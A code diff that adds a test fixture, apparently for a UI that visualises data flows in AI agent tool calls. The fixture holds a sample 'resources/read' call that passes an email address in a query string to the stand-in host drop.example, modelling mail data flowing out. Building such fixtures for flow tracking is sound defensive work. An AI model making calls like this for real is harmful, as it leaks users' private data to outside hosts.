@@ -41,6 +41,27 @@ export const REACH_LOOKS: readonly Look[] = [
     height: 1300,
   },
   {
+    name: 'flow-request',
+    state: () =>
+      stateOf([
+        mail({
+          tool: 'resources/read',
+          server: 'pages',
+          effect: 'Reads the resource https://drop.example/?q=bob%40evil.example from pages',
+          args: JSON.stringify({ uri: 'https://drop.example/?q=bob@evil.example' }),
+          editable: false,
+          flow: {
+            ...mailFlow(),
+            trails: mailFlow().trails.map((trail) => ({ ...trail, path: '/uri' })),
+            to: { tool: 'resources/read', server: 'pages', names: ['drop.example'] },
+          },
+        }),
+      ]),
+    steps: (page) => page.locator('[data-focus^="show "]').click(),
+    replies: { passages: { passages: PLACES.passages.slice(0, 1) } },
+    height: 1000,
+  },
+  {
     name: 'flow-talk',
     state: () => stateOf([call({ talk: mailFlow() })]),
     steps: (page) => page.locator('[data-focus^="server "]').first().click(),
